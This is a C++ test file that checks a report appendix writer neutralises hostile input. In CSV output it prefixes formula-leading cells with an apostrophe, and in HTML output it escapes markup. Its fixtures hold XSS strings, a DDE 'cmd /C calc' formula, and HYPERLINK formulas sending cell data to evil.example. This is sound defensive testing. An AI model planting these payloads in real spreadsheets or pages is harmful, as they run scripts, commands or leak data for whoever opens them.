#include "pipeline/reports/appendix_format.h"

#include <catch2/catch.hpp>

#include <sstream>
#include <string>
#include <vector>

#include "tests/pipeline/html_check.h"
#include "tests/pipeline/reports/hostile_records.h"
#include "tests/pipeline/strict_csv.h"

namespace {

using returns::AppendixFormat;

const std::string kSelection = R"(theme "=x" <script>alert('selection')</script> & more)";

std::string Written(AppendixFormat format, std::vector<std::string> mark_themes = {}) {
  returns::AppendixOptions options;
  options.selection = kSelection;
  options.mark_themes = std::move(mark_themes);
  std::ostringstream out;
  returns::WriteAppendix(returns::test::HostileRecords(), options, format, out);
  return out.str();
}

size_t Count(const std::string& text, const std::string& what) {
  size_t n = 0;
  for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

}  // namespace

TEST_CASE("regression: an appendix CSV cell starting with '=', '+', '-', '@' or a tab is text to a spreadsheet",
          "[reports][appendix][csv][regression]") {
  const std::string csv = Written(AppendixFormat::kCsv);
  const returns::test::CsvCellRows rows = returns::test::ParseCsvCells(csv);
  const std::vector<returns::CommentRecord> records = returns::test::HostileRecords();
  REQUIRE(rows.size() == records.size() + 1);
  CHECK(csv.rfind("question,district,collaborative,lead_schools,return_id,position,heading,comment,themes\r\n", 0) == 0);
  for (size_t i = 1; i < rows.size(); ++i) {
    REQUIRE(rows[i].size() == 9);
    for (size_t c = 0; c < 9; ++c) {
      INFO("row " << i << ", cell " << c << ": " << rows[i][c].text);
      CHECK_FALSE(returns::test::SpreadsheetFormula(rows[i][c].text));
      CHECK(rows[i][c].quoted == (c != 0 && c != 5));  // all but the question and the position
    }
  }
  // In appendix order: Dover's two comments, then Thanet's, then Swale's (one section per question).
  CHECK(rows[1][1].text == "Dover <script>alert('district')</script>");
  CHECK(rows[1][2].text == R"~("><img src=x onerror="alert('collaborative')"> & Co)~");
  CHECK(rows[1][3].text == R"(St Mary's & St John's <b>CE</b>; =HYPERLINK("http://evil.example/","click"))");
  CHECK(rows[1][6].text == R"~(Priority 1 ' onmouseover='alert(1)' " onfocus="alert(2)")~");
  CHECK(rows[1][7].text == R"('=HYPERLINK("http://evil.example/?"&A1,"moderation report"))");
  CHECK(rows[2][7].text == "'+44 moderation <script>alert('text')</script> & a learning walk");
  CHECK(rows[3][1].text == "'-Thanet");
  CHECK(rows[3][2].text == "'@Group");
  CHECK(rows[3][3].text == "'+Plus School");
  CHECK(rows[3][7].text == "'-2+3+cmd|' /C calc'!A0 moderation");
  CHECK(rows[4][1].text == "'=Swale");
  CHECK(rows[4][7].text == "'\tTab first: plain <img src=x onerror=\"alert('img')\">");
  CHECK(rows[4][0].text == "4");
  CHECK(rows[4][5].text == "1");
}

TEST_CASE("the appendix page escapes names, headings, comments, marks and the selection", "[reports][appendix][html]") {
  for (const std::vector<std::string>& marks : {std::vector<std::string>{}, {returns::test::kHostileThemeId}}) {
    const std::string html = Written(AppendixFormat::kHtml, marks);
    const std::vector<std::string> problems = returns::test::HtmlProblems(html);
    INFO((problems.empty() ? "" : problems.front()));
    CHECK(problems.empty());
    CHECK(Count(html, "<script") == 0);
    CHECK(Count(html, "<img") == 0);
    CHECK(Count(html, "<b>") == 0);
    CHECK(Count(html, "<i>") == 0);
    CHECK(Count(html, "<p class=\"quote\">") == 4);
    CHECK(html.find("<title>Appendix: theme &quot;=x&quot; &lt;script&gt;alert(&#39;selection&#39;)&lt;/script&gt; &amp; "
                    "more</title>") != std::string::npos);
    CHECK(html.find("<h1>Appendix: theme &quot;=x&quot; &lt;script&gt;") != std::string::npos);
    CHECK(html.find("<tr><td>Dover &lt;script&gt;alert(&#39;district&#39;)&lt;/script&gt;</td><td>&quot;&gt;&lt;img "
                    "src=x onerror=&quot;alert(&#39;collaborative&#39;)&quot;&gt; &amp; Co</td><td>St Mary&#39;s &amp; "
                    "St John&#39;s &lt;b&gt;CE&lt;/b&gt;; =HYPERLINK(&quot;http://evil.example/&quot;,&quot;click&quot;)"
                    "</td>") != std::string::npos);
    CHECK(html.find("<span class=\"heading\">Priority 1 &#39; onmouseover=&#39;alert(1)&#39; &quot; "
                    "onfocus=&quot;alert(2)&quot;:</span>") != std::string::npos);
    CHECK(html.find("<tr><td>=Swale</td><td>Plain &amp; &quot;Quoted&quot; &#39;Group&#39;</td><td>&lt;i&gt;Lead&lt;/i&gt;"
                    "</td>") != std::string::npos);
  }
  // A mark around text that is itself markup: the mark is ours, the text escaped inside it.
  const std::string marked = Written(AppendixFormat::kHtml, {returns::test::kHostileThemeId});
  CHECK(marked.find("“+44 moderation <mark>&lt;script&gt;alert(&#39;text&#39;)&lt;/script&gt;</mark> &amp; a "
                    "<mark>learning walk</mark>”") != std::string::npos);
  CHECK(Count(marked, "<mark>") == 1 + 2);  // the page's key, and the two matches of that theme
  const std::string all = Written(AppendixFormat::kHtml);
  CHECK(Count(all, "<mark>") == 1 + 6);  // every match: no span overlaps another
}
